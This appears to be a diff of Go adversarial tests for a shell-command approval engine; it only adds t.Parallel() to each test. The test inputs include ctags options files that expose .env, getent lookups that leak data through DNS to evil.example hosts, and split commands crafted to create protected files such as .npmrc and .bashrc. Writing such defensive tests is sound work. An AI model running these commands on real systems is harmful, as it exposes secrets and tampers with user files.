@@ -43,6 +43,7 @@ func runsProjectCode(t *testing.T, lines ...string) {
 // TestAdversary_T13_CtagsObeysItsDirectory: its files of options print .env and write
 // where they like. Only as the first word does --options=NONE keep it from them.
 func TestAdversary_T13_CtagsObeysItsDirectory(t *testing.T) {
+	t.Parallel()
 	asksForEach(t, "ctags -x src/a.c", "universal-ctags -x src/a.c", "ctags -x --options=NONE src/a.c", "ctags --options=x.ctags -x src/a.c",
 		"ctags --options=NONE --options=x -x src/a.c", "ctags --options NONE -x src/a.c", "ctags --options=NONE src/a.c", "ctags --options=NONE -x .env",
 		`mkdir -p .ctags.d && printf '%s\n' -L .env > .ctags.d/a.ctags && ctags -x src/a.c`)
@@ -52,6 +53,7 @@ func TestAdversary_T13_CtagsObeysItsDirectory(t *testing.T) {
 
 // TestAdversary_T13_GetentSendsNames: it asks a name server, as dig does, and is an external read.
 func TestAdversary_T13_GetentSendsNames(t *testing.T) {
+	t.Parallel()
 	e := engine(t, shipped, strict)
 	for _, line := range []string{"getent hosts leak-abc123.evil.example", "getent ahosts leak-abc123.evil.example", "getent ahostsv4 a.evil.example", "getent ahostsv6 a.evil.example",
 		"getent networks a.evil.example", "for n in a b; do getent hosts $n.evil.example; done"} {
@@ -64,6 +66,7 @@ func TestAdversary_T13_GetentSendsNames(t *testing.T) {
 
 // TestAdversary_T13_SplitMakesProtectedNames: the names of its files begin as it is told.
 func TestAdversary_T13_SplitMakesProtectedNames(t *testing.T) {
+	t.Parallel()
 	asksForEach(t, "split -l1 -a1 --additional-suffix=.json notes.txt .mc", "split -l1 -a1 notes.txt .npmr", "split -l1 -a3 notes.txt .en", "split -a1 notes.txt Jenkinsfil",
 		"split -a1 notes.txt .gitmodule", "split -a1 notes.txt sub/.bashr", "split notes.txt .", "split -a3 notes.txt prod.", "split -a2 notes.txt prod.e", "split -a3 notes.txt sub/",
 		"csplit -f .mc -b %d.json notes.txt /x/", "csplit -f prod.p notes.txt /x/")
@@ -73,6 +76,7 @@ func TestAdversary_T13_SplitMakesProtectedNames(t *testing.T) {
 // TestAdversary_T13_ProjectCodeIsSaidToBe: tools that run or take in what the project's
 // files say.
 func TestAdversary_T13_ProjectCodeIsSaidToBe(t *testing.T) {
+	t.Parallel()
 	runsProjectCode(t, "bazel", "bazelisk", "ng", "pants", "buck2", "pre-commit", "helm lint .", "helm lint chart", "helm template .", "helm template x ./chart",
 		"kustomize build .", "kubectl kustomize overlays/dev", "trivy image alpine:3.20", "packer version", "packer", "pulumi whoami", "pulumi stack ls", "terraform providers",
 		"vagrant version", "sls --version", "cdk version", "vercel ls", "cabal update", "docker compose ps",
